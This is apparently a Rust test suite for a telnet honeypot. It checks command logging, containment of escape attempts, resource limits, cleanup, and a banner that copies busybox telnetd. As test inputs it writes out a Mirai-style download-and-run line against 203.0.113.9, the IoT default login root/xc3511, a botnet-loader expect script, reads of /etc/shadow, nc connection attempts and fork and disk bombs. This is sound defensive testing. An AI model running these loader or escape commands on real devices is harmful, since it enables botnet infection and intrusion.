// SPDX-License-Identifier: Apache-2.0
//! Sessions against the real server: what is recorded, what is held in, what is left afterwards. Needs user namespaces, and
//! busybox-static, strace, inetutils-telnet and expect of Debian.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod rig;

use std::collections::BTreeSet;
use std::net::TcpListener;
use std::process::Command;

use rig::{Client, Honeypot, calls_of, wait_until};

const FAST: &str = "failure_delay_ms = 0\npool = 1\n";

#[test]
fn every_call_is_under_the_line_that_made_it() {
    let honeypot = Honeypot::start(FAST);
    let mut client = Client::log_in(&honeypot);
    for line in [
        "cd /tmp",
        "echo hello > f",
        "cat f | wc -c > n",
        "sh",
        "cd /etc",
        "exit",
        "(sleep 1; echo late > g) &",
        "chmod 777 f",
        "sleep 2",
        "for i in 1 2; do >x$i; done",
    ] {
        client.type_line(line);
    }
    client.end();
    let events = honeypot.events();
    let calls: Vec<_> = events.iter().filter(|event| event["event"] == "call").collect();
    assert!(calls.len() > 500, "{}", calls.len());
    assert!(calls.iter().all(|call| call["line"].is_u64() && call["subject"]["pid"].is_u64()));
    let lines_with = |name: &str, path: &str| -> BTreeSet<u64> {
        calls_of(&events, name, path).iter().filter_map(|call| call["line"].as_u64()).collect()
    };
    // Built-ins and redirections happen in the shell itself.
    assert_eq!(lines_with("chdir", "/tmp"), BTreeSet::from([1]));
    assert_eq!(lines_with("openat", "n"), BTreeSet::from([3]));
    // A nested shell reads its own lines.
    assert_eq!(lines_with("chdir", "/etc"), BTreeSet::from([5]));
    // A child in the background keeps its line, whatever is typed meanwhile.
    assert_eq!(lines_with("openat", "g"), BTreeSet::from([7]));
    assert_eq!(lines_with("chmod", "f"), BTreeSet::from([8]));
    assert_eq!(lines_with("openat", "x2"), BTreeSet::from([10]));
    let typed: Vec<_> = events.iter().filter(|event| event["event"] == "input").collect();
    assert_eq!(
        (typed[2]["line"].as_u64(), &typed[2]["input"]),
        (Some(3), &"cat f | wc -c > n".into())
    );
    let granted = calls_of(&events, "chmod", "f");
    assert_eq!(
        (granted[0]["stage"].as_str(), granted[0]["arguments"]["mode"].as_u64()),
        (Some("S5"), Some(0o777))
    );
    assert_eq!(events.last().unwrap()["event"], "session-end");
}

#[test]
fn nothing_gets_out_and_nothing_of_the_host_is_seen() {
    // On all addresses of the host: a packet that left the cell would find it.
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let marker = tempfile::NamedTempFile::new().unwrap();
    let honeypot = Honeypot::start(FAST);
    let mut client = Client::log_in(&honeypot);
    let mut refused = |line: &str, words: &[&str]| {
        let answer = client.type_line(line);
        assert!(words.iter().any(|word| answer.contains(word)), "{line}: {answer}");
    };
    let not_permitted = ["not permitted", "denied", "not implemented"];
    refused("mount -t tmpfs none /mnt", &not_permitted);
    refused("umount /tmp", &not_permitted);
    refused("mknod /tmp/sda b 8 0", &not_permitted);
    refused("chroot / /bin/ls", &not_permitted);
    refused("unshare -r /bin/id", &not_permitted);
    refused("hostname other", &not_permitted);
    refused("echo x > /m.ko; insmod /m.ko", &not_permitted);
    refused("ip link set lo down", &not_permitted);
    refused(&format!("ls {}", marker.path().display()), &["No such file"]);
    refused("ls /proc/1/root/work /home/..//.dockerenv", &["No such file"]);
    refused("cat /etc/shadow", &["No such file"]);
    for address in ["127.0.0.1", "10.0.2.2", "192.0.2.1"] {
        refused(
            &format!("nc -w 1 {address} {port} < /dev/null; echo code=$?"),
            &["code=1", "refused"],
        );
    }
    assert!(listener.accept().is_err(), "a connection left the cell");
}

#[test]
fn bombs_end_at_their_limits() {
    let honeypot =
        Honeypot::start(&format!("{FAST}[cell]\nprocesses = 24\nmemory_bytes = 67108864\n"));
    let mut client = Client::log_in(&honeypot);
    let answer = client.type_line("dd if=/dev/zero of=/tmp/big bs=1M count=100; ls -l /tmp/big");
    assert!(answer.contains("No space") || answer.contains("too large"), "{answer}");
    let answer = client.type_line("rm /tmp/big; dd if=/dev/zero of=/dev/null bs=512M count=1");
    assert!(answer.contains("out of memory") || answer.contains("memory"), "{answer}");
    let answer = client.type_line("i=0; while >/tmp/f$i; do i=$((i+1)); done; echo made=$i");
    assert!(answer.contains("No space"), "{answer}");
    client.type_line("rm -r /tmp/f*");
    let answer = client.type_line("for i in $(seq 60); do sleep 60 & done; echo over");
    assert!(answer.contains("fork"), "{answer}");
}

#[test]
fn everything_is_gone_when_the_server_is_killed() {
    let mut honeypot = Honeypot::start(FAST);
    let mut client = Client::log_in(&honeypot);
    client.type_line("setsid sleep 31415926 > /dev/null 2>&1 &");
    client.type_line("sleep 31415926 &");
    let running = || rig::processes_with("31415926");
    assert!(wait_until(|| running() == 2), "{}", running());
    honeypot.kill();
    assert!(wait_until(|| running() == 0), "{} processes are left", running());
    assert!(wait_until(|| rig::processes_with(&honeypot.address.to_string()) == 0));
    assert!(wait_until(|| rig::groups_of(honeypot.process()).is_empty()));
}

#[test]
fn everything_is_gone_when_the_intruder_hangs_up() {
    let honeypot = Honeypot::start(FAST);
    let mut client = Client::log_in(&honeypot);
    client.type_line("setsid sleep 27182818 > /dev/null 2>&1 &");
    assert!(wait_until(|| rig::processes_with("27182818") == 1));
    drop(client);
    assert!(wait_until(|| rig::processes_with("27182818") == 0));
    assert!(wait_until(|| honeypot
        .events()
        .last()
        .is_some_and(|event| event["event"] == "session-end")));
}

#[test]
fn what_is_fetched_is_answered_inside_and_told() {
    let honeypot = Honeypot::start(FAST);
    let mut client = Client::log_in(&honeypot);
    client.type_line(
        "cd /tmp; wget http://203.0.113.9/bins/mips -O m; chmod +x m; ./m; echo code=$?",
    );
    client.end();
    let events = honeypot.events();
    let asked: Vec<_> = events.iter().filter(|event| event["event"] == "asked").collect();
    assert_eq!(
        (asked[0]["service"].as_str(), asked[0]["asked"].as_str()),
        (Some("http"), Some("GET /bins/mips HTTP/1.1 203.0.113.9"))
    );
    let stages: BTreeSet<&str> =
        events.iter().filter_map(|event| event["stage"].as_str()).collect();
    assert!(["S4a", "S5", "S6b"].iter().any(|stage| stages.contains(stage)), "{stages:?}");
}

#[test]
fn the_first_bytes_are_those_of_busybox_telnetd() {
    let honeypot = Honeypot::start(FAST);
    let own = rig::first_bytes(honeypot.address, 12);
    let place = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let mut telnetd = Command::new("/bin/busybox")
        .args(["telnetd", "-F", "-b", &place.to_string(), "-l", "/bin/cat"])
        .spawn()
        .expect("busybox-static is needed");
    assert!(wait_until(|| std::net::TcpStream::connect(place).is_ok()));
    let real = rig::first_bytes(place, 12);
    telnetd.kill().unwrap();
    telnetd.wait().unwrap();
    assert_eq!(own, real);
}

/// As loaders are written: each line waits for the answer to the one before.
const SCRIPT: &str = r##"
set timeout 60
spawn telnet [lindex $argv 0] [lindex $argv 1]
proc await {mark} {
    expect {
        -ex $mark {}
        timeout { exit 2 }
        eof { exit 3 }
    }
}
proc answer {mark line} {
    await $mark
    send -- "$line\r"
}
answer "login: " root
answer "assword: " xc3511
answer "# " enable
answer "# " "cd /tmp && /bin/busybox ECCHI"
answer "applet not found" "echo -ne '\\x7f\\x45' > .x; wc -c < .x"
await "\n2\r"
answer "# " exit
expect eof
"##;

#[test]
fn an_expect_script_gets_the_answers_that_it_waits_for() {
    let honeypot = Honeypot::start(FAST);
    let script = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(script.path(), SCRIPT).unwrap();
    let output = Command::new("expect")
        .arg(script.path())
        .args([honeypot.address.ip().to_string(), honeypot.address.port().to_string()])
        .output()
        .expect("expect is needed");
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{:?}: {shown}", output.status);
    let events = honeypot.settled(1);
    let typed: Vec<_> = events.iter().filter_map(|event| event["input"].as_str()).collect();
    assert_eq!(typed.len(), 4, "{typed:?}");
}

#[test]
fn real_clients_get_a_shell() {
    let honeypot = Honeypot::start(FAST);
    for client in [&["/usr/bin/telnet"][..], &["/bin/busybox", "telnet"]] {
        let shown = rig::through(client, honeypot.address, &["root", "xc3511", "id", "exit"]);
        assert!(shown.contains("router login: "), "{client:?}: {shown}");
        assert!(shown.contains("uid=0(root) gid=0(root)"), "{client:?}: {shown}");
    }
}
